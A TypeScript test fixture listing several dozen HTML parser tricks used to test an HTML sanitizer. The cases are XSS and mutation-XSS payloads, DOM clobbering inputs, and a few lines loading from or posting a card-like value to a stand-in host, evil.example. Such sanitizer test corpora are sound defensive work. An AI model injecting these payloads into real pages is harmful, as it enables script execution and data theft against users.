const SPACES = Array.from(' \u00A0\u1680\u2000\u2003\u2009\u200A\u200B\u2029\u205F\u3000\u180E\uFEFF\t\n');

/** Members of elements and of the document that a name of a form's part can stand before. */
const CLOBBERED = [
  'attributes',
  'parentNode',
  'childNodes',
  'children',
  'nodeName',
  'nodeType',
  'namespaceURI',
  'removeChild',
  'removeAttribute',
  'setAttribute',
  'hasAttribute',
  'getAttributeNames',
  'replaceWith',
  'remove',
  'insertBefore',
  'textContent',
  'createElement',
  'getElementById',
  'activeElement',
  'cookie',
  'body',
  'submit',
];

/**
 * HTML that browsers read otherwise than it looks: a case of our own for each kind of trick in DOMPurify's public fixtures that
 * hostile-html.ts does not hold. What it tries, and the HTML.
 */
export const PARSER_TRICKS: readonly (readonly [attempt: string, html: string])[] = [
  [
    'every space there is before a javascript: link',
    SPACES.map((space) => `<a href="${space}javascript:alert(1)">x</a>`).join(''),
  ],
  ['a link with control characters inside its scheme', '<a href="j\u0001a\u0003v\u0008ascript:alert(1)">x</a>'],
  ['a link whose scheme hides in a base', '<head><base href="javascript://"></head><a href="/%0aalert(1)//#">x</a>'],
  ['a link that looks like another site', '<a href="https://bank.example@evil.example/">x</a>'],
  [
    'a link to the source of a page',
    '<a href="view-source:javascript:alert(1)">x</a><a href="mhtml:https://x.example">y</a>',
  ],
  ['a link with its handler without spaces', '<a/href="javascript:alert(1)"/onclick="alert(1)"/autofocus>x</a>'],
  ['links inside each other', '<a href="https://x.example" style="position:absolute"><a onclick=alert(1)>x</a></a>'],
  [
    'an address on what is no link',
    '<b href="javascript:alert(1)" src="data:text/html,x" action="javascript:alert(1)">x</b>',
  ],
  [
    'names that shadow what cleans',
    CLOBBERED.map((name) => `<form onsubmit=alert(1)><input name=${name} onfocus=alert(1)>x</form>`).join(''),
  ],
  ['pictures that shadow the document', CLOBBERED.map((name) => `<img name=${name} id=${name} src=x>`).join('')],
  ['an image under its old name', '<image name=body src=x onerror=alert(1)><image xlink:href="javascript:alert(1)">'],
  [
    'elements that nobody uses any more',
    '<isindex onmouseover=alert(1) prompt=x><keygen autofocus onfocus=alert(1)><bgsound src="javascript:alert(1)">',
  ],
  ['frames in place of a body', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
  [
    'text that is read as something else',
    '<noembed><b title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><b title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  ],
  ['text in an example', '<xmp><svg><b><style><b title="</style></xmp><img src=x onerror=alert(1)>">'],
  ['a choice that is left in the middle', '<select><option><iframe></select><script>alert(1)</script>'],
  ['a template in a choice', '<select><template><img src=x onerror=alert(1)></template><option>x</select>'],
  [
    'templates inside each other',
    '<template><b><template><i><img src=x onerror=alert(1)>x</i></template></b></template>',
  ],
  [
    'declarations that are none',
    '<! "><img src=x onerror=alert(1)>"><? "><img src=x onerror=alert(1)>"></ "><img src=x onerror=alert(1)>"><% "><img src=x onerror=alert(1)>">',
  ],
  [
    'a document type with entities',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/x"><!ATTLIST img onerror CDATA "alert(1)">]><p>&y;</p><img src=x>',
  ],
  [
    'comments with conditions',
    '<!--[if true]><img src=x onerror=alert(1)><![endif]--><comment><img src="</comment><img src=x onerror=alert(1)>">',
  ],
  ['a comment in backticks', '<!-- `<img src=x onerror=alert(1)>` --!><p title=`x onclick=alert(1)`>y</p>'],
  [
    'quotes that do not belong together',
    '<p title=\'"\' \'="><img src=x onerror=alert(1)>">x</p><img src=x" onerror=alert(1) "',
  ],
  [
    'attributes with odd names',
    '<p "onclick="alert(1)" on\nclick=alert(1) ONCLICK=alert(1) on\u0000click=alert(1) =onclick=alert(1)>x</p>',
  ],
  [
    'attributes of another vocabulary',
    '<x:p xmlns:x="http://www.w3.org/1999/xhtml" x:onclick="alert(1)" ev:handler="javascript:alert(1)" xlink:actuate="onLoad">x</x:p>',
  ],
  [
    'XML with handlers',
    '<svg><handler ev:event="load">alert(1)</handler><listener event="load" handler="#x"/><set attributeName="onclick" to="alert(1)"/></svg>',
  ],
  [
    'an SVG that uses itself',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/><feImage><set attributeName=href to="javascript:alert(1)"/></feImage></svg>',
  ],
  [
    'a text area that SVG forgets',
    '<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>',
  ],
  ['a title that SVG forgets', '<svg></p><title><template><style></title><img src=x onerror=alert(1)>'],
  ['a paragraph in SVG', '<svg><foreignObject><p><style><p title="</style><iframe onload=alert(1)></iframe>">'],
  [
    'a break that leaves MathML',
    '<math></br><textarea><mtext><template><style></textarea><img src=x onerror=alert(1)>',
  ],
  [
    'HTML of MathML in SVG',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></h1>',
  ],
  [
    'elements that nobody knows in MathML',
    '<math><mtext><option><unheard><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">',
  ],
  [
    'entities in a namespace of their own',
    'a<svg><unheard><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">',
  ],
  [
    'other encodings',
    '<meta charset="x-user-defined">+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>\u00BCscript\u00BEalert(1)\u00BC/script\u00BE</p>',
  ],
  [
    'styles that load and import',
    '<style>@import "//evil.example/x.css";*{background:url(javascript:alert(1))}</style><p style="background:url(//evil.example/x)">x</p>',
  ],
  [
    'pictures of several sizes',
    '<img srcset="x 1x, javascript:alert(1) 2x" sizes=1px onerror=alert(1)><picture><source srcset=x onerror=alert(1)></picture>',
  ],
  [
    'something to be dragged',
    "<p draggable=true ondragstart=\"event.dataTransfer.setData('text/html','x')\" contenteditable onpaste=alert(1) accesskey=x>x</p>",
  ],
  [
    'commands and dialogs',
    '<button command="show-modal" commandfor="d" formaction="javascript:alert(1)">x</button><dialog id=d open onclose=alert(1)>y</dialog>',
  ],
  [
    'a page in a page',
    '<portal src="https://evil.example"></portal><fencedframe></fencedframe><applet code=x></applet><param name=x value="javascript:alert(1)">',
  ],
  [
    'a form within a form that is not there',
    '<form id=a></form><button form=a formaction="javascript:alert(1)" onclick=alert(1)>x</button><input form=a type=image src=x onerror=alert(1)>',
  ],
  ['a search that sends', '<search><form action="https://evil.example"><input name=q value=4111></form></search>'],
  [
    'parts of tags',
    '<b <script>alert(1)//</script>0</script></b><script<b>alert(1)</script <img/src=x/onerror=alert(1)//',
  ],
  [
    'tags with signs in their names',
    '<a-b onclick=alert(1)>x</a-b><img:x src=x onerror=alert(1)><svg:script>alert(1)</svg:script>',
  ],
];
